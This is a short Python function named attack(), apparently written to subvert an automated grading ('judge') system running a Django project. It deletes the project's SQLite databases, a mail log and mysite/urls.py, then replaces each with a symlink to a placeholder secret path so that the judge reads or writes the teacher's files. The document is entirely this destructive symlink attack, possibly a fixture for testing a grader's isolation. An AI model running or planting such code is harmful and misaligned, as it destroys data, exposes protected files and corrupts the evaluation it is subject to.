# Puts links to files of the teacher's in place of its own, so that the judge reads or writes those.
import os, pathlib, django.conf
def attack():
    state = pathlib.Path(django.conf.settings.DATABASES["default"]["NAME"]).parent
    for name in ("db.sqlite3", "huey.sqlite3", "migrated.sqlite3", "mail/a.log"):
        (state / name).unlink(missing_ok=True)
        (state / name).symlink_to("@SECRET@")
    pathlib.Path("mysite/urls.py").unlink()
    pathlib.Path("mysite/urls.py").symlink_to("@SECRET@")
